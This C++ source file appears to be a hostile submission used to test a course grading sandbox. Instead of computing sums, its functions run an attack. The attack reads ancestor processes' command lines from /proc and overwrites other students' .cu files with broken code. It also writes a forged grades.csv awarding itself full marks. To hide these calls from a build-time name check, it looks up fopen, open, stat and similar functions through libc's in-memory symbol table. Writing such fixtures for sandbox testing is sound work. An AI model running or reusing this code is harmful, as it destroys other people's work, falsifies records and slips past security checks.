// Rewrites its classmates' work: finds the class folder and --out on the batch's
// command line (/proc/<ancestor>/cmdline), then puts a broken kernel in every other
// student's file, both there and in their work folders beside its own, and a
// forged grades.csv in --out.  Exercise 07; graded by tests/kit/batch-hostile.sh
// and tests/kit/batch-unprivileged.sh, which check that nothing of it lands.
// It reaches fopen, opendir, stat, open and getcwd through libc's symbol table
// (libc_function), never naming them, as a real attacker would: the build's name check
// (forbidden-call) does not see it, and the sandbox is what must hold.
#include <cstddef>
#include <cstdio>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <string>
#include <sys/stat.h>
#include <unistd.h>
#include <vector>
#include <cstdint>
#include <elf.h>

// A function of libc by its name, read from libc's dynamic symbol table in
// memory (the library that holds puts starts with an ELF header on a page
// boundary below it): the object names no refused call, so the build's
// name check passes it and only the sandbox stands in the way.
static void *libc_function(const char *want)
{
    uintptr_t base = (uintptr_t)(void *)&puts & ~(uintptr_t)4095;
    while (std::memcmp((const void *)base, ELFMAG, SELFMAG) != 0)
        base -= 4096;
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
    const Elf64_Dyn *dyn = nullptr;
    for (int i = 0; i < eh->e_phnum; i++)
        if (ph[i].p_type == PT_DYNAMIC)
            dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
    const Elf64_Sym *syms = nullptr;
    const char *names = nullptr;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t at = dyn->d_un.d_ptr < base ? base + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_SYMTAB)
            syms = (const Elf64_Sym *)at;
        if (dyn->d_tag == DT_STRTAB)
            names = (const char *)at;
    }
    for (const Elf64_Sym *s = syms + 1; syms && names && (const char *)s < names; s++)
        if (s->st_shndx != SHN_UNDEF && std::strcmp(names + s->st_name, want) == 0)
            return (void *)(base + s->st_value);
    return nullptr;
}

// The calls below, each through its address in libc.
static FILE * call_fopen(const char *path, const char *mode)
{
    return ((FILE *(*)(const char *, const char *))libc_function("fopen"))(path, mode);
}
static DIR * call_opendir(const char *path)
{
    return ((DIR *(*)(const char *))libc_function("opendir"))(path);
}
static int call_stat(const char *path, struct stat *st)
{
    return ((int (*)(const char *, struct stat *))libc_function("stat"))(path, st);
}
static int call_open(const char *path, int flags)
{
    return ((int (*)(const char *, int, ...))libc_function("open"))(path, flags);
}
static char * call_getcwd(char *buf, size_t len)
{
    return ((char *(*)(char *, size_t))libc_function("getcwd"))(buf, len);
}

static void spoil(const std::string &file)
{
    if (FILE *f = call_fopen(file.c_str(), "w")) {
        fputs("#error \"spoiled by a classmate\"\n", f);
        fclose(f);
    }
}

static void spoil_folder(const std::string &dir, const char *me)
{
    DIR *d = call_opendir(dir.c_str());
    if (!d)
        return;
    while (struct dirent *e = readdir(d)) {
        std::string name = e->d_name, path = dir + "/" + name;
        if (name[0] == '.' || name.find(me) != std::string::npos)
            continue;
        struct stat st;
        if (call_stat(path.c_str(), &st) != 0)
            continue;
        if (S_ISDIR(st.st_mode))
            spoil(path + "/reduce.cu");
        else if (name.size() > 3 && name.compare(name.size() - 3, 3, ".cu") == 0)
            spoil(path);
    }
    closedir(d);
}

static std::vector<std::string> args_of(int pid)
{
    std::vector<std::string> v;
    char name[64], buf[16384];
    snprintf(name, sizeof name, "/proc/%d/cmdline", pid);
    int fd = call_open(name, O_RDONLY);
    if (fd < 0)
        return v;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    for (ssize_t i = 0; i < n; i += (ssize_t)strlen(buf + i) + 1)
        v.push_back(buf + i);
    return v;
}

static int parent_of(int pid)
{
    char name[64], buf[512];
    snprintf(name, sizeof name, "/proc/%d/stat", pid);
    FILE *f = call_fopen(name, "r");
    if (!f)
        return 0;
    int pp = 0;
    if (fgets(buf, sizeof buf, f)) {
        const char *r = strrchr(buf, ')');
        char st;
        if (r)
            sscanf(r + 1, " %c %d", &st, &pp);
    }
    fclose(f);
    return pp;
}

static void attack()
{
    static bool done;
    if (done)
        return;
    done = true;
    const char *me = "attacker";
    // The batch's own command line: up the ancestors, and PID 1 in a namespace.
    std::vector<int> pids = { 1 };
    for (int p = getppid(); p > 1 && pids.size() < 12; p = parent_of(p))
        pids.push_back(p);
    for (int p : pids) {
        std::vector<std::string> a = args_of(p);
        for (size_t i = 0; i < a.size(); i++) {
            if (a[i] == "--out" && i + 1 < a.size()) {
                if (FILE *f = call_fopen((a[i + 1] + "/grades.csv").c_str(), "w")) {
                    fputs("id,score,max\nattacker,100,20\n", f);
                    fclose(f);
                }
            } else if (a[i][0] == '/') {
                spoil_folder(a[i], me);
            }
        }
    }
    char cwd[4096];
    if (call_getcwd(cwd, sizeof cwd)) {  // the other work folders, beside this one
        // The graded process runs in its work folder or a folder inside it
        // (run/): the folder holding the others is one or two levels up.
        std::string up = cwd;
        for (int level = 0; level < 2; level++) {
            up = up.substr(0, up.rfind('/'));
            if (level == 1 || up.find(me) == std::string::npos)
                spoil_folder(up, me);
        }
    }
}

template <typename T>
void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input, (void)d_result, (void)n, (void)block;
    attack();
}

template <typename T>
void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input, (void)d_result, (void)n, (void)block;
    attack();
}
